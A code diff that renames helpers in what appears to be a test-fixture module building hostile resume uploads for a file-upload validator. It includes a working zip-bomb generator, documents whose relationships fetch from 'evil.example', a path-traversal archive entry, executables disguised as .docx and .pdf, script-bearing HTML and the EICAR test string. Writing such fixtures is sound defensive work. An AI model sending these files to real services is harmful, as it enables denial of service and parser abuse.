@@ -1,40 +1,40 @@
 /** Resumes that are not what they say, each in another way. */
 import { deflateRawSync, constants as zlib } from 'node:zlib';
-import { type ArchiveEntry, archive } from './archives.ts';
-import { eicar } from './malware-scanner.ts';
-import { docxResume, pdfOf, type SentFile } from './resumes.ts';
+import { buildZip, type ZipEntry } from './archives.ts';
+import { eicarTestFile } from './malware-scanner.ts';
+import { buildDocxResume, buildPdfOfSize, type UploadFile } from './resumes.ts';
 
 const megabyte = 1024 * 1024;
 const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 
-const docxWith = (...more: ArchiveEntry[]): SentFile => docxResume('cv.docx', more);
+const docxWith = (...more: ZipEntry[]): UploadFile => buildDocxResume('cv.docx', more);
 const related = (content: string) => docxWith({ name: 'word/_rels/settings.xml.rels', content });
 const fetched = (type: string) =>
   `<Relationships><Relationship Id="a" Type="${relations}/${type}" Target="https://evil.example/a" TargetMode="External"/></Relationships>`;
 
 /** So many megabytes of zeros as a part of an archive, without the memory for them. */
-export function packedZeros(megabytes: number): ArchiveEntry {
+export function buildZipBombEntry(megabytes: number): ZipEntry {
   const piece = deflateRawSync(Buffer.alloc(megabyte), { level: 9, finishFlush: zlib.Z_FULL_FLUSH });
   const end = deflateRawSync(Buffer.alloc(0));
   const packed = Buffer.concat([...Array<Buffer>(megabytes).fill(piece), end]);
-  return { name: 'word/media/image1.bmp', packed, claimedBytes: megabytes * megabyte };
+  return { name: 'word/media/image1.bmp', compressedBytes: packed, declaredSize: megabytes * megabyte };
 }
 
 /** By what they are; the last two only a scanner knows. */
-export function hostileResumes(): Record<string, SentFile> {
+export function buildMaliciousResumes(): Record<string, UploadFile> {
   const macroTypes = '<Types><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
   return {
-    'a zip bomb of 0.9 GB': docxWith(packedZeros(900)),
+    'a zip bomb of 0.9 GB': docxWith(buildZipBombEntry(900)),
     'a zip bomb whose directory lies about a part that is read': docxWith({
       name: '_rels/.rels',
-      packed: packedZeros(40).packed,
-      claimedBytes: 100,
+      compressedBytes: buildZipBombEntry(40).compressedBytes,
+      declaredSize: 100,
     }),
     'an archive of 501 parts': docxWith(...Array.from({ length: 499 }, (_, index) => ({ name: `word/${index}.xml` }))),
     'a document with macros': docxWith({ name: 'word/vbaProject.bin', content: 'macro' }),
     'a .docm under another name': {
       name: 'cv.docx',
-      bytes: archive([{ name: '[Content_Types].xml', content: macroTypes }, { name: 'word/document.xml' }]),
+      bytes: buildZip([{ name: '[Content_Types].xml', content: macroTypes }, { name: 'word/document.xml' }]),
     },
     'a template from elsewhere': related(fetched('attachedTemplate')),
     'an object from elsewhere': related(fetched('oleObject')),
@@ -45,11 +45,14 @@ export function hostileResumes(): Record<string, SentFile> {
     'an archive with a part that leads out': docxWith({ name: '../../evil.txt', content: 'x' }),
     'an encrypted archive': docxWith({ name: 'word/a', content: 'x', encrypted: true }),
     'a program that ends as an archive': { name: 'cv.docx', bytes: Buffer.concat([Buffer.from('MZ'), docxWith().bytes]) },
-    'a program named .pdf': { name: 'cv.pdf', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2000), pdfOf(300)]) },
+    'a program named .pdf': {
+      name: 'cv.pdf',
+      bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2000), buildPdfOfSize(300)]),
+    },
     'a page named .pdf': { name: 'cv.pdf', bytes: Buffer.from('<html><script>alert(1)</script></html>') },
     'text with a NUL': { name: 'cv.txt', bytes: Buffer.from('Asha\0Rao') },
     'a page under its own name': { name: 'cv.html', bytes: Buffer.from('<script>alert(1)</script>') },
-    'EICAR as text': { name: 'cv.txt', bytes: Buffer.from(eicar) },
-    'EICAR in a document': docxWith({ name: 'word/a.txt', content: eicar, stored: true }),
+    'EICAR as text': { name: 'cv.txt', bytes: Buffer.from(eicarTestFile) },
+    'EICAR in a document': docxWith({ name: 'word/a.txt', content: eicarTestFile, uncompressed: true }),
   };
 }
